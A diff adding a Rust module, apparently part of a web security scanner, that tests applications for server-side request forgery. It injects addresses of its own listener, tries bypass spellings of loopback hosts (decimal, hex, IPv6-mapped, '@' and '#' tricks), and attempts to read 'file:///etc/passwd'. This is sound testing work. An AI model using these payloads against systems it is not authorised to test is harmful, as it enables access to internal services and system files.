@@ -1,0 +1,363 @@
+//! Whether the application fetches an address that somebody else chose (OWASP A10:2021, API7:2023, CWE-918).
+//!
+//! 1. A value that is an address, or is called like one, becomes the address of our listener with a word of its own. A request
+//!    that names the word came from the application: that is the proof.
+//! 2. It is repeated with a new word. Negative twin: a third word in a text that is no address must not arrive.
+//! 3. Where the plain address is refused, others that mean the same are tried: another spelling of the host, the permitted
+//!    host before an `@`, the permitted address behind a `#`. A list of forbidden texts misses one.
+//! 4. Where the answer shows what our listener told, somebody reads with the application's eyes.
+//! 5. A file by `file:` shows by what only that file has; the twin names one that is not there.
+//!
+//! The listener is near the application, at loopback or in its own network: what reaches it reaches what is inside. Control for
+//! `passed`: the application takes the address it took before, or one that the form's own page shows.
+
+use std::net::{IpAddr, SocketAddr};
+use std::time::Duration;
+
+use gabion_model::Severity;
+use gabion_model::outbound::BoxFuture;
+
+use super::{Attack, Phase, usable};
+use crate::attempt::{Attempt, attempts};
+use crate::call::Put;
+use crate::catch::Catch;
+use crate::field::Field;
+use crate::operation::{Place, Point};
+use crate::scope::is_near;
+use crate::verdict::{Outcome, Proof, Verdict};
+use crate::wire::{Answer, Request, WireError};
+
+pub(super) struct Ssrf;
+
+const ID: &str = "ssrf";
+
+impl Attack for Ssrf {
+    fn id(&self) -> &'static str {
+        ID
+    }
+
+    fn phase(&self) -> Phase {
+        Phase::Write
+    }
+
+    fn run<'a>(&'a self, field: &'a Field) -> BoxFuture<'a, Result<(), WireError>> {
+        Box::pin(run(field))
+    }
+}
+
+async fn run(field: &Field) -> Result<(), WireError> {
+    let Some(catch) = &field.catch else {
+        field.not_tested(ID, "nothing listens for what is fetched; hint: `target.callback`");
+        return Ok(());
+    };
+    let all = attempts(field);
+    let mut tested = 0_usize;
+    for attempt in &all {
+        let points = attempt.call.points();
+        for point in points.iter().filter(|point| is_address(attempt, point)) {
+            tested = tested.saturating_add(1);
+            Aim { field, catch, attempt, point }.attack().await?;
+        }
+    }
+    if tested == 0 {
+        field.not_tested(ID, "no operation takes anything like an address");
+    }
+    Ok(())
+}
+
+/// Whether a value is an address, or called like one.
+fn is_address(attempt: &Attempt<'_>, point: &Point) -> bool {
+    if !matches!(point.place, Place::Query | Place::Form | Place::Json | Place::Path) {
+        return false;
+    }
+    let value = attempt.call.value(point).unwrap_or_default();
+    value.starts_with("http://") || value.starts_with("https://") || is_called(point.word())
+}
+
+fn is_called(name: &str) -> bool {
+    let mut words = vec![String::new()];
+    let mut lower = false;
+    for letter in name.chars() {
+        if !letter.is_ascii_alphanumeric() || letter.is_ascii_uppercase() && lower {
+            words.push(String::new());
+        }
+        lower = letter.is_ascii_lowercase();
+        if let (true, Some(word)) = (letter.is_ascii_alphanumeric(), words.last_mut()) {
+            word.push(letter.to_ascii_lowercase());
+        }
+    }
+    words.iter().any(|word| NAMES.contains(&word.trim_end_matches(char::is_numeric)))
+}
+
+/// What fields are called whose value is fetched.
+const NAMES: &[&str] = &[
+    "url",
+    "uri",
+    "urls",
+    "link",
+    "href",
+    "src",
+    "source",
+    "dest",
+    "destination",
+    "target",
+    "callback",
+    "webhook",
+    "hook",
+    "endpoint",
+    "feed",
+    "rss",
+    "host",
+    "hostname",
+    "domain",
+    "proxy",
+    "remote",
+    "site",
+    "website",
+    "homepage",
+    "imageurl",
+    "fileurl",
+    "redirecturl",
+    "callbackurl",
+    "webhookurl",
+    "avatarurl",
+    "photourl",
+    "fetch",
+    "import",
+    "open",
+    "page",
+    "server",
+    "api",
+    "download",
+    "preview",
+    "wsdl",
+    "xsd",
+    "jku",
+    "address",
+];
+
+struct Aim<'a> {
+    field: &'a Field,
+    catch: &'a Catch,
+    attempt: &'a Attempt<'a>,
+    point: &'a Point,
+}
+
+/// Something that was fetched for us.
+struct Fetched {
+    request: Request,
+    answer: Answer,
+    /// The first line of what arrived.
+    line: String,
+    /// Whether the answer shows what our listener told.
+    told: bool,
+}
+
+/// How long is waited for a fetch after the answer: who answers first and fetches later is met again in the end.
+const SOON: Duration = Duration::from_millis(250);
+
+impl Aim<'_> {
+    async fn attack(&self) -> Result<(), WireError> {
+        let at = self.catch.address();
+        for (form, plain) in forms(at, self.original().as_deref()) {
+            let Some(first) = self.fetch(&form).await? else { continue };
+            let Some(again) = self.fetch(&form).await? else {
+                self.say(Verdict::Inconclusive, "it was fetched once, and not a second time");
+                return Ok(());
+            };
+            let word = Catch::word(&*self.field.rng);
+            let Some((twin_request, twin)) = self.send(&format!("nowhere {word}")).await? else {
+                return Ok(());
+            };
+            if self.catch.wait(&word, SOON).await.is_some() {
+                self.say(Verdict::Inconclusive, "a text that is no address is fetched too");
+                return Ok(());
+            }
+            self.found(&first, &again, plain, &self.field.evidence(self.attempt.who, &twin_request, &twin));
+            return self.files().await;
+        }
+        self.passed().await
+    }
+
+    fn found(&self, first: &Fetched, again: &Fetched, plain: bool, twin: &crate::verdict::Exchange) {
+        let near = is_near(self.catch.address().ip());
+        let reads = first.told && again.told;
+        let what = match (near, reads) {
+            (true, true) => "the application fetches an address inside and shows what is there",
+            (true, false) => "the application fetches an address inside",
+            (false, _) => "the application fetches whatever address it is given",
+        };
+        let how = if plain { "" } else { ", written so that a list of hosts misses it" };
+        let evidence = format!("our listener got `{}`, and `{}` the second time", first.line, again.line);
+        let who = self.attempt.who;
+        let proof = Proof::new(self.field.evidence(who, &again.request, &again.answer), evidence)
+            .twin(twin.clone())
+            .shown(self.field.evidence(who, &first.request, &first.answer));
+        let severity = match (near, reads) {
+            (true, true) => Severity::Critical,
+            (true, false) => Severity::High,
+            (false, _) => Severity::Medium,
+        };
+        let outcome = Outcome::new(ID, &self.attempt.operation.id(), Verdict::Proven, format!("{what}{how}"));
+        self.field.say(outcome.at(self.point).severity(severity).proof(proof));
+    }
+
+    /// One address in that form, with a word of its own; nothing where nobody came.
+    async fn fetch(&self, form: &str) -> Result<Option<Fetched>, WireError> {
+        let word = Catch::word(&*self.field.rng);
+        let secret = self.field.canary();
+        self.catch.tell(&word, &format!("<p>{secret}</p>"));
+        let Some((request, answer)) = self.send(&form.replace(WORD, &word)).await? else { return Ok(None) };
+        let Some(hit) = self.catch.wait(&word, SOON).await else { return Ok(None) };
+        let line = hit.head.lines().next().unwrap_or_default().chars().take(200).collect();
+        Ok(Some(Fetched { told: answer.has(&secret), request, answer, line }))
+    }
+
+    async fn send(&self, text: &str) -> Result<Option<(Request, Answer)>, WireError> {
+        let call = self.attempt.call.with(self.point, &Put::Text(text));
+        usable(self.field.exchange(self.attempt.who, &call).await)
+    }
+
+    /// The address that stood there, where it is one of the target's choosing.
+    fn original(&self) -> Option<String> {
+        let value = self.attempt.call.value(self.point)?;
+        (self.attempt.known.is_some() && value.starts_with("http")).then_some(value)
+    }
+
+    /// Files by `file:`: only where addresses are fetched at all.
+    async fn files(&self) -> Result<(), WireError> {
+        let Some((request, answer)) = self.send("file:///etc/passwd").await? else { return Ok(()) };
+        let shown = |answer: &Answer| {
+            answer.text().lines().any(|line| line.contains("root:") && line.contains(":0:0:"))
+        };
+        if !shown(&answer) {
+            return Ok(());
+        }
+        let Some((other, twin)) = self.send(&format!("file:///etc/{}", self.field.canary())).await? else {
+            return Ok(());
+        };
+        let Some((_, again)) = self.send("file:///etc/passwd").await? else { return Ok(()) };
+        if shown(&twin) || !shown(&again) {
+            return Ok(());
+        }
+        let who = self.attempt.who;
+        let proof =
+            Proof::new(self.field.evidence(who, &request, &answer), "the first line of `/etc/passwd`")
+                .twin(self.field.evidence(who, &other, &twin));
+        let outcome = Outcome::new(
+            ID,
+            &self.attempt.operation.id(),
+            Verdict::Proven,
+            "the application reads its own files by `file:`",
+        );
+        self.field.say(outcome.at(self.point).aspect("file").severity(Severity::Critical).proof(proof));
+        Ok(())
+    }
+
+    /// Nobody came: that says something where honest addresses are taken.
+    async fn passed(&self) -> Result<(), WireError> {
+        if self.attempt.known.is_some() {
+            self.say(Verdict::Passed, "no address of ours was fetched");
+            return Ok(());
+        }
+        for address in self.shown_addresses().await? {
+            let Some((_, answer)) = self.send(&address).await? else { continue };
+            if answer.is_success() {
+                self.say(
+                    Verdict::Passed,
+                    &format!("`{address}` is taken, and no address of ours was fetched"),
+                );
+                return Ok(());
+            }
+        }
+        self.say(
+            Verdict::Inconclusive,
+            "no address of ours was fetched, and none is known that would be; hint: an example in the contract",
+        );
+        Ok(())
+    }
+
+    /// Addresses of other hosts that the page of the same path shows: one that it takes may be among them.
+    async fn shown_addresses(&self) -> Result<Vec<String>, WireError> {
+        let path = self.attempt.operation.page.clone().unwrap_or_else(|| self.attempt.call.path_text());
+        let Some(page) = usable(self.field.request(self.attempt.who, &Request::get(&path)).await)? else {
+            return Ok(Vec::new());
+        };
+        let text = page.text();
+        let ends = |letter: char| letter.is_whitespace() || "<>\"'`&)".contains(letter);
+        let mut all: Vec<String> = Vec::new();
+        for (at, _) in text.match_indices("http") {
+            let rest = text.get(at..).unwrap_or_default();
+            if !rest.starts_with("http://") && !rest.starts_with("https://") {
+                continue;
+            }
+            let address: String = rest.chars().take_while(|letter| !ends(*letter)).take(300).collect();
+            let own = self.field.wire.origin().inside("/", &address).is_some();
+            if !own && !address.contains("www.w3.org") && !all.contains(&address) {
+                all.push(address);
+            }
+            if all.len() == 3 {
+                break;
+            }
+        }
+        Ok(all)
+    }
+
+    fn say(&self, verdict: Verdict, says: &str) {
+        self.field.say(Outcome::new(ID, &self.attempt.operation.id(), verdict, says).at(self.point));
+    }
+}
+
+/// Stands for the word in a form.
+const WORD: &str = "{word}";
+
+/// Ways to write the address of our listener, and whether it is the plain one. `permitted` is an address that is taken.
+fn forms(at: SocketAddr, permitted: Option<&str>) -> Vec<(String, bool)> {
+    let port = at.port();
+    let mut all = vec![(format!("http://{at}/{WORD}"), true)];
+    let mut hosts = Vec::new();
+    if let IpAddr::V4(address) = at.ip() {
+        let [a, b, c, d] = address.octets();
+        if address.is_loopback() {
+            hosts.push("localhost".to_owned());
+        }
+        hosts.push(u32::from(address).to_string());
+        hosts.push(format!("0x{a:02x}{b:02x}{c:02x}{d:02x}"));
+        hosts.push(format!("[::ffff:{a}.{b}.{c}.{d}]"));
+    }
+    all.extend(hosts.iter().map(|host| (format!("http://{host}:{port}/{WORD}"), false)));
+    if let Some(permitted) = permitted {
+        let host = url::Url::parse(permitted).ok();
+        if let Some(host) = host.as_ref().and_then(url::Url::host_str) {
+            all.push((format!("http://{host}@{at}/{WORD}"), false));
+        }
+        all.push((format!("http://{at}/{WORD}#{permitted}"), false));
+    }
+    // Some take a host, and write the scheme before it themselves.
+    all.push((format!("//{at}/{WORD}"), false));
+    all.push((format!("{at}/{WORD}"), false));
+    all
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn fields_that_hold_addresses_are_known_by_their_names() {
+        for yes in ["url", "imageUrl", "callback_url", "webhook", "URL", "feed-url", "target"] {
+            assert!(is_called(yes), "{yes}");
+        }
+        for no in ["q", "curl", "resource", "hostile", "name", "capital", "email"] {
+            assert!(!is_called(no), "{no}");
+        }
+    }
+
+    #[test]
+    fn one_address_has_many_spellings() {
+        let forms = forms(SocketAddr::from(([127, 0, 0, 1], 81)), Some("https://news.example/a"));
+        let has = |text: &str| forms.iter().any(|(form, _)| form == text);
+        assert!(has("http://2130706433:81/{word}") && has("http://news.example@127.0.0.1:81/{word}"));
+        assert!(has("http://[::ffff:127.0.0.1]:81/{word}") && has("http://0x7f000001:81/{word}"));
+    }
+}
